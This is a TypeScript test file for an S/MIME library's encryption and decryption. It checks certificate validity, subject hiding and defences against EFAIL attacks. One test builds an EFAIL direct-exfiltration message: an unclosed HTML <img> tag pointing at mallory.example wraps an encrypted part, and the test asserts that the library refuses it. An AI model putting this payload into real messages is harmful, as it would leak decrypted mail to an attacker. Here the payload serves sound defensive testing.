import { expect } from 'chai';
import { decryptMessage, encryptMessage, type DecryptedMessage } from '../../src/node.ts';
import { encodePem } from '../../src/formats/pem.ts';
import { asOctets, asPart, asText, LETTER, mail } from '../support/mail.ts';
import { keyOf, recipientOf } from '../support/recipients.ts';
import { refusalCode } from '../support/refusal-code.ts';
import { AT, NOT_AFTER, NOT_BEFORE } from '../support/signers.ts';

const anna = recipientOf('P-256');
const recipients = [anna.certificate];
const key = keyOf(anna);

const decrypt = (bytes: Uint8Array, more: object = {}): Promise<DecryptedMessage> =>
  decryptMessage(bytes, { certificate: anna.certificate, key, ...more });

describe('encrypting messages', () => {
  it('refuses a certificate outside of its validity period', async () => {
    for (const at of [new Date(NOT_BEFORE.getTime() - 1000), new Date(NOT_AFTER.getTime() + 1000)]) {
      expect(await refusalCode(encryptMessage(LETTER, { recipients, at }))).to.equal('key.refused');
    }
  });

  it('refuses what is no message, unless it goes as a file', async () => {
    const file = asOctets('%PDF-1.7\n');
    expect(await refusalCode(encryptMessage(file, { recipients, at: AT }))).to.equal('structure.malformed');
    const sealed = await encryptMessage(file, { recipients, at: AT, form: 'cms' });
    expect((await decrypt(sealed)).content).to.deep.equal(file);
    expect((await decrypt(asOctets(encodePem('CMS', sealed)))).content).to.deep.equal(file);
  });

  it('hides the subject and keeps it inside; shows who writes to whom', async () => {
    const sealed = asText(await encryptMessage(LETTER, { recipients, at: AT }));
    expect(sealed).to.include('Subject: [...]').and.to.include('To: agency@example.dk');
    expect(sealed).to.include('smime-type=authEnveloped-data').and.not.to.include('Agreement');
    const { content, isAuthenticated } = await decrypt(asOctets(sealed));
    expect(isAuthenticated).to.equal(true);
    expect(asText(content)).to.include('Subject: Agreement').and.to.include('hp="cipher"');
    expect(asText(content)).to.include('Agreed: 100 kroner.');
  });
});

describe('decrypting messages', () => {
  it('EFAIL, malleability: what is not authenticated is refused unless the caller says that he looks after it', async () => {
    const sealed = await encryptMessage(LETTER, { recipients, at: AT, cipher: 'AES-256-CBC' });
    expect(asText(sealed)).to.include('smime-type=enveloped-data');
    expect(await refusalCode(decrypt(sealed))).to.equal('message.not-authenticated');
    const { content, isAuthenticated } = await decrypt(sealed, { unauthenticated: 'accept' });
    expect(asText(content)).to.include('Agreed: 100 kroner.');
    expect(isAuthenticated).to.equal(false);
  });

  it('EFAIL, direct exfiltration: an encrypted part among others is not opened', async () => {
    const sealed = asPart(await encryptMessage(LETTER, { recipients, at: AT }));
    const html = 'Content-Type: text/html\r\n\r\n<img src="http://mallory.example/';
    const message = mail(
      'From: anna@example.dk',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...['--b', html, '--b', sealed, '--b', 'Content-Type: text/html\r\n\r\n">', '--b--'],
    );
    expect(await refusalCode(decrypt(message))).to.equal('document.unsupported');
    const enclosed = mail('Content-Type: message/rfc822', '', sealed);
    expect(await refusalCode(decrypt(enclosed))).to.equal('document.unsupported');
  });

  it('refuses what is not encrypted', async () => {
    for (const bytes of [
      LETTER,
      asOctets('-----BEGIN CMS-----\nMAA=\n-----END CMS-----\n'),
      Uint8Array.of(0x30, 0),
    ]) {
      expect(await refusalCode(decrypt(bytes))).to.equal('document.unsupported');
    }
    expect(await refusalCode(decrypt(new Uint8Array()))).to.equal('document.unsupported');
  });
});
